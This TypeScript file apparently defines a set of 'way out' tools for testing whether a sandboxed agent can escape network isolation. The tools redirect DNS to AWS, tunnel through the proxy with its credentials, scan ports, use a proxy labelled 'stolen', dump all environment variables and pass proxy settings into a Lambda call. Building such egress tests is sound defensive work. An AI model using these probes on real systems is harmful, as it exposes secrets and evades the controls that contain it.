import { Address } from '../../../lab/namespace';
import { pythonTool } from './python-tool';
import type { CallersTool } from './tool-calls';

export const LOOK_UP = pythonTool(
  'look_up_order(number: str)',
  `
import boto3, json
answer = boto3.client("lambda").invoke(FunctionName="look-up-orders", Payload=json.dumps({"number": number}))
return answer["Payload"].read().decode()
`,
);
/** It knows where AWS is, whatever names say. Letta makes Python's words of a text that is JSON. */
export const ASKS_AWS = pythonTool(
  'asks_aws(service: str, operation: str, request: str)',
  `
import ast, boto3, botocore.config, socket
find = socket.getaddrinfo
socket.getaddrinfo = lambda host, *rest, **more: find("${Address.AWS}", *rest, **more)
config = botocore.config.Config(retries={"total_max_attempts": 1}, connect_timeout=3, read_timeout=10, proxies={})
client = boto3.client(service, config=config)
try:
    getattr(client, operation)(**ast.literal_eval(request))
    return "ALLOWED"
except client.exceptions.ClientError as error:
    return error.response["Error"]["Code"]
`,
);
export const NAMES_AWS = pythonTool(
  'names_aws(service: str)',
  `
import socket
try: return "REACHED " + str(socket.create_connection((f"{service}.us-east-1.amazonaws.com", 443), 3).getpeername())
except OSError as error: return type(error).__name__ + ": " + str(error)
`,
);
export const FETCHES = pythonTool(
  'fetches(url: str)',
  'import requests\nanswer = requests.get(url, timeout=10)\nreturn f"{answer.status_code} {answer.text}"',
);
/** One line for each place. */
export const TUNNELS = pythonTool(
  'tunnels(places: str)',
  `
import base64, os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
password = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
lines = []
for place in places.split():
    way = socket.create_connection((proxy.hostname, proxy.port), 10)
    way.sendall(f"CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\nProxy-Authorization: Basic {password}\\r\\n\\r\\n".encode())
    said = way.makefile("rb").readline().decode().split()[1]
    if said == "200":
        way.sendall(b"GET /through-a-tunnel HTTP/1.0\\r\\n\\r\\n")
        said += " " + way.makefile("rb").readline().decode().split()[1]
    lines.append(f"{place} {said}")
    way.close()
return "\\n".join(lines)
`,
);
export const CONNECTS = pythonTool(
  'connects(places: str)',
  `
import socket
opened = []
for place in places.split():
    host, port = place.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), 2).close()
        opened.append(place)
    except OSError: pass
return " ".join(opened)
`,
);
export const USES = pythonTool(
  'uses_stolen(url: str, by: str)',
  'import requests\nanswer = requests.get(url, proxies={"http": by}, timeout=10)\nreturn str(answer.status_code)',
);
export const TELLS = pythonTool('tells_variables()', 'import json, os\nreturn json.dumps(dict(os.environ))');
export const TYPED: CallersTool = {
  name: 'fetches_typed',
  source: `
export async function fetches_typed(url: string): Promise<string> {
  return String((await fetch(url)).status);
}
`,
  language: 'typescript',
  parameters: { type: 'object', properties: { url: { type: 'string', description: 'Where to.' } }, required: ['url'] },
};
/** It goes on for a while after it has told. */
export const LENDS = pythonTool(
  'lends()',
  `
import boto3, json, os, time
boto3.client("lambda").invoke(FunctionName="look-up-orders", Payload=json.dumps({"proxy": os.environ["HTTP_PROXY"]}))
time.sleep(4)
return "lent"
`,
);
export const wayOutTools: readonly CallersTool[] = [
  LOOK_UP,
  ASKS_AWS,
  NAMES_AWS,
  FETCHES,
  TUNNELS,
  CONNECTS,
  USES,
  TELLS,
  TYPED,
  LENDS,
];
